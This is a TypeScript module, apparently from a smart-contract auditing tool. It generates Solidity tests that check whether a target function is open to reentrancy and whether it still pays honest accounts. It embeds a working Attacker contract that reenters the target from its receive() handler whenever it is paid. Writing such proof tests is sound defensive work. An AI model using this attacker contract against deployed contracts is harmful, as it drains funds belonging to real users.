import { findDeposit } from "../deposit.ts";
import type { ProofTemplate } from "../proofPlan.ts";
import { encodeCall } from "../values.ts";

/** The attacked function is called again, with the same arguments, whenever it pays. */
export const reentrancy: ProofTemplate = {
  name: "reentrancy",
  title: "Reentrancy",
  categories: ["reentrancy", "reentrancy-transfer"],
  plan(subject) {
    const [attacked] = subject.attacked;
    if (attacked === undefined) return { kind: "unplanned", reason: "no function that can be called from outside reaches it" };
    const deposit = findDeposit(subject, attacked);
    const call = encodeCall(attacked, { account: "account", amount: "1 ether" });
    return {
      kind: "planned",
      attackTest: "test_attackerGainsNothing",
      controlTest: "test_honestAccountIsPaid",
      assumptions: [...(deposit?.assumptions ?? ["nobody has to deposit before"]), ...call.assumptions],
      missing: call.missing,
      contracts,
      members: `
function test_attackerGainsNothing() public {
    Attacker attacker = _prepare();
    uint256 before = address(attacker).balance;
    _deposit(attacker);
    attacker.take(address(target), _call(address(attacker)), true);
    uint256 afterwards = address(attacker).balance;
    require(
        afterwards <= before,
        string(abi.encodePacked("HyperKit proof: attacker ", _ether(before), " -> ", _ether(afterwards), " ETH"))
    );
}

function test_honestAccountIsPaid() public {
    Attacker honest = _prepare();
    _deposit(honest);
    uint256 before = address(honest).balance;
    require(honest.take(address(target), _call(address(honest)), false), "${attacked.name} reverts for an honest account");
    require(address(honest).balance > before, "${attacked.name} pays an honest account no ether");
}

function _prepare() private returns (Attacker attacker) {
    attacker = new Attacker();
${deposit === undefined ? "    vm.deal(address(target), 10 ether);" : victimDeposits(deposit.encode("VICTIM"))}
}

function _deposit(Attacker account_) private {
${deposit === undefined ? "    account_;" : ownDeposit(deposit.encode("address(account_)"))}
}

function _call(address account) private view returns (bytes memory) {
    account;
    return ${call.expression};
}
`,
    };
  },
};

function victimDeposits(data: string): string {
  return `    vm.deal(address(attacker), 1 ether);
    vm.deal(VICTIM, 10 ether);
    vm.prank(VICTIM, VICTIM);
    (bool deposited, ) = address(target).call{value: 10 ether}(${data});
    require(deposited, "the victim's deposit reverts");`;
}

function ownDeposit(data: string): string {
  return `    require(account_.pay(address(target), ${data}), "the deposit reverts");`;
}

const contracts = `
contract Attacker {
    address private target;
    bytes private data;
    bool private reenters;

    function pay(address target_, bytes calldata data_) external returns (bool ok) {
        (ok, ) = target_.call{value: 1 ether}(data_);
    }

    function take(address target_, bytes calldata data_, bool reenters_) external returns (bool ok) {
        (target, data, reenters) = (target_, data_, reenters_);
        (ok, ) = target.call(data);
    }

    receive() external payable {
        if (!reenters || msg.value == 0 || target.balance < msg.value) return;
        (bool again, ) = target.call(data);
        again;
    }
}
`;
